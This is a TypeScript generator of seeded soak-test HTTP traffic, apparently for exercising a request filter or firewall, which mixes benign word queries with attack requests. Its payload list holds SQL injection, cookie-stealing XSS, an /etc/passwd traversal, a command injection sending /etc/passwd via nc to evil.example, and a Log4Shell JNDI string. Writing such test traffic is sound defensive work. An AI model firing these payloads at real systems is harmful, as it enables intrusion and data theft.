/** Ordinary and attacking requests without end, the same ones for the same seed. */
export interface SoakRequest {
  readonly attack: boolean;
  readonly method: 'GET' | 'POST';
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
}

const ATTACK_SHARE = 0.3;

const WORDS = 'garden hose barrel oak copper pipe valve washer bucket boots rain lock gate tap pump'.split(
  ' ',
);

/** Each is blocked by itself, wherever it stands. */
const PAYLOADS: readonly string[] = [
  "1' UNION SELECT password FROM users--",
  "' OR 1=1; DROP TABLE orders--",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  ';cat /etc/passwd|nc evil.example 4444',
  `$${'{jndi:ldap://evil.example/a}'}`,
];

/** Numbers of [0, 1): mulberry32, of public domain. */
function randomFrom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

export function* soakTraffic(seed: number): Generator<SoakRequest, never, undefined> {
  const random = randomFrom(seed);
  const pick = <T>(from: readonly [T, ...T[]] | readonly T[], otherwise: T): T =>
    from[Math.floor(random() * from.length)] ?? otherwise;
  const words = (count: number): string => Array.from({ length: count }, () => pick(WORDS, 'tap')).join(' ');
  for (;;) {
    const attack = random() < ATTACK_SHARE;
    const text = attack ? pick(PAYLOADS, "' OR 1=1--") : words(1 + Math.floor(random() * 4));
    const shape = random();
    if (shape < 0.5) yield { ...asQuery(text, words(1)), attack };
    else if (shape < 0.75) yield { ...asForm(text, words(1 + Math.floor(random() * 200))), attack };
    else yield { ...asJson(text, words(1 + Math.floor(random() * 200))), attack };
  }
}

type Shape = Omit<SoakRequest, 'attack'>;

const asQuery = (text: string, other: string): Shape => ({
  method: 'GET',
  path: `/search?page=1&sort=${other}&q=${encodeURIComponent(text)}`,
  headers: { cookie: `session=4f2a${other}; theme=dark` },
  body: '',
});

const asForm = (text: string, other: string): Shape => ({
  method: 'POST',
  path: '/orders',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams({ note: other, city: 'Galway', q: text }).toString(),
});

const asJson = (text: string, other: string): Shape => ({
  method: 'POST',
  path: '/api/orders',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ note: other, items: [{ sku: 'A-1', count: 2, text }] }),
});
